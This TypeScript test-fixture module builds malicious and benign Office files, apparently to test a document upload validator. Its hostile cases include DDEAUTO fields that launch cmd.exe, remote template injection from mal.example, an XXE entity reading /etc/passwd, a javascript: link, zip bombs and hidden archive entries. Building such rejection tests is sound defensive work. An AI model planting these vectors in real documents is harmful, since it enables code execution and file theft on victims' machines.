import { randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { docx, xlsx, zip, type Entry } from './bytes.ts';

const MIB = 1024 * 1024;
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600, 1)]);
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const part = (name: string, text: string): Entry => ({ name, content: Buffer.from(text) });
const rels = (name: string, type: string, target: string, mode = 'TargetMode="External"'): Entry =>
  part(
    name,
    `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="${RELATIONSHIPS}/${type}" ${mode} Target="${target}"/></Relationships>`,
  );
const word = (inside: string): Entry =>
  part('word/document.xml', `<w:document><w:body>${inside}</w:body></w:document>`);
const field = (...pieces: string[]): Entry =>
  word(pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join(''));

/** Overwrites an entry's declared size, in the central directory and in the local header. */
const claiming = (archive: Buffer, name: string, unpacked: number, where: 'both' | 'list' | 'front'): Buffer => {
  const changed = Buffer.from(archive);
  for (let at = changed.indexOf(name); at >= 0; at = changed.indexOf(name, at + 1)) {
    if (at >= 46 && changed.readUInt32LE(at - 46) === 0x02014b50 && where !== 'front')
      changed.writeUInt32LE(unpacked, at - 22);
    if (at >= 30 && changed.readUInt32LE(at - 30) === 0x04034b50 && where !== 'list')
      changed.writeUInt32LE(unpacked, at - 8);
  }
  return changed;
};

const SHEET = 'xl/worksheets/sheet1.xml';
const big = xlsx([{ name: SHEET, content: randomBytes(8 * MIB) }]);

/** An archive with an entry that the central directory omits. */
const hiding = (): Buffer => {
  const whole = xlsx([part(SHEET, '<worksheet/>')]);
  const secret = deflateRawSync(Buffer.from('MZ'));
  const listAt = whole.readUInt32LE(whole.length - 6);
  const front = Buffer.alloc(30);
  front.writeUInt32LE(0x04034b50);
  front.writeUInt16LE(8, 8);
  front.writeUInt32LE(secret.length, 18);
  front.writeUInt16LE(200, 28);
  const hidden = Buffer.concat([front, Buffer.alloc(200), secret]);
  const tail = Buffer.from(whole.subarray(listAt));
  tail.writeUInt32LE(listAt + hidden.length, tail.length - 6);
  return Buffer.concat([whole.subarray(0, listAt), hidden, tail]);
};

const otherName = (): Buffer => {
  const whole = Buffer.from(docx([part('word/aaaaaaaaaa.xml', '<a/>')]));
  whole.write('word/vbaProject', whole.indexOf('word/aaaaaaaaaa'));
  return whole;
};

/** Office documents that run, fetch or hide something. */
export const hostileOffices: [what: string, name: string, content: Buffer][] = [
  ['macros under another name', 'carta.docx', docx([{ name: 'word/dados.dat', content: OLE }])],
  ['macros under their own name in other letters', 'carta.docx', docx([{ name: 'word/VBAPROJECT.BIN', content: OLE }])],
  ['an embedded object', 'carta.docx', docx([{ name: 'word/embeddings/oleObject1.bin', content: OLE }])],
  ['a control', 'base.xlsx', xlsx([part('xl/activeX/activeX1.xml', '<ax/>')])],
  ['macros of an older kind', 'base.xlsx', xlsx([part('xl/macrosheets/sheet1.xml', '<xm/>')])],
  [
    'the types of a file with macros',
    'carta.docx',
    zip([
      part(
        '[Content_Types].xml',
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      ),
      word(''),
    ]),
  ],
  [
    'a template of elsewhere',
    'carta.docx',
    docx([rels('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://mal.example/m.dotm')]),
  ],
  [
    'a template of elsewhere, spelled by numbers',
    'carta.docx',
    docx([
      rels(
        'word/_rels/settings.xml.rels',
        'attachedTemplate',
        '&#104;ttps://mal.example/m',
        "TargetMode='&#69;xternal'",
      ),
    ]),
  ],
  [
    'a picture that is fetched',
    'carta.docx',
    docx([rels('word/_rels/document.xml.rels', 'image', 'https://mal.example/p.png')]),
  ],
  [
    'a frame of elsewhere',
    'carta.docx',
    docx([rels('word/_rels/webSettings.xml.rels', 'frame', 'https://mal.example')]),
  ],
  [
    'a table of elsewhere',
    'base.xlsx',
    xlsx([rels('xl/externalLinks/_rels/externalLink1.xml.rels', 'externalLinkPath', 'https://mal.example/b.xlsx')]),
  ],
  [
    'a table on a stranger’s disk',
    'base.xlsx',
    xlsx([rels('xl/externalLinks/_rels/externalLink1.xml.rels', 'externalLinkPath', 'file://mal.example/b.xlsx')]),
  ],
  [
    'a link that is a script',
    'carta.docx',
    docx([rels('word/_rels/document.xml.rels', 'hyperlink', 'javascript:alert(1)')]),
  ],
  ['a command in a field', 'carta.docx', docx([field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')])],
  ['a command in pieces', 'carta.docx', docx([field('DD', 'EAU', 'TO c:\\\\cmd.exe')])],
  ['a command spelled by numbers', 'carta.docx', docx([field('&#68;&#x44;E cmd')])],
  ['a command in an attribute', 'carta.docx', docx([word('<w:fldSimple w:instr=" DDE cmd "/>')])],
  [
    'a command in UTF-16',
    'carta.docx',
    docx([
      { name: 'word/document.xml', content: Buffer.from('\ufeff<w:instrText>DDEAUTO cmd</w:instrText>', 'utf16le') },
    ]),
  ],
  [
    'a command of a spreadsheet',
    'base.xlsx',
    xlsx([
      part(
        'xl/externalLinks/externalLink1.xml',
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      ),
    ]),
  ],
  [
    'a type definition',
    'carta.docx',
    docx([
      part('word/document.xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'),
    ]),
  ],
  ['a size that is told too small', 'base.xlsx', claiming(big, SHEET, 100, 'both')],
  ['a size that is told too small in the list', 'base.xlsx', claiming(big, SHEET, 100, 'list')],
  ['a size that is told otherwise in front', 'base.xlsx', claiming(big, SHEET, 100, 'front')],
  ['a size that is told too large', 'base.xlsx', claiming(big, SHEET, 8 * MIB + 1, 'both')],
  [
    'a table in a text that unpacks to 300 MB',
    'carta.docx',
    docx([{ name: 'word/embeddings/a.xlsx', content: xlsx([{ name: SHEET, content: Buffer.alloc(300 * MIB) }]) }]),
  ],
  [
    'tables in tables in tables',
    'carta.docx',
    docx([
      {
        name: 'word/embeddings/a.xlsx',
        content: xlsx([
          { name: 'xl/embeddings/b.xlsx', content: xlsx([{ name: 'xl/embeddings/c.xlsx', content: xlsx([]) }]) },
        ]),
      },
    ]),
  ],
  [
    'macros in a table in a text',
    'carta.docx',
    docx([{ name: 'word/embeddings/a.xlsx', content: xlsx([{ name: 'xl/dados.dat', content: OLE }]) }]),
  ],
  ['an entry that the list does not name', 'base.xlsx', hiding()],
  ['an entry with two names', 'carta.docx', otherName()],
  ['two entries of one name', 'base.xlsx', xlsx([part(SHEET, '<a/>'), part(SHEET.toUpperCase(), '<b/>')])],
  ['something behind its end', 'base.xlsx', Buffer.concat([xlsx([part(SHEET, '<a/>')]), Buffer.from('MZ')])],
];

/** The same documents without the attack: their acceptance shows why the others are rejected. */
export const harmlessOffices: [what: string, name: string, content: Buffer][] = [
  ['a text', 'carta.docx', docx([field(' PAGE ', 'NUMPAGES')])],
  ['a spreadsheet of 8 MB', 'base.xlsx', big],
  [
    'a text with a table in it',
    'carta.docx',
    docx([{ name: 'word/embeddings/a.xlsx', content: xlsx([part(SHEET, '<a/>')]) }]),
  ],
  [
    'a link',
    'carta.docx',
    docx([rels('word/_rels/document.xml.rels', 'hyperlink', 'https://empresa.example/obra?a=1')]),
  ],
  [
    'a template at hand',
    'carta.docx',
    docx([rels('word/_rels/settings.xml.rels', 'attachedTemplate', 'Normal.dotm', '')]),
  ],
  [
    'a table on the same disk',
    'base.xlsx',
    xlsx([rels('xl/externalLinks/_rels/externalLink1.xml.rels', 'externalLinkPath', 'Base%202026.xlsx')]),
  ],
];
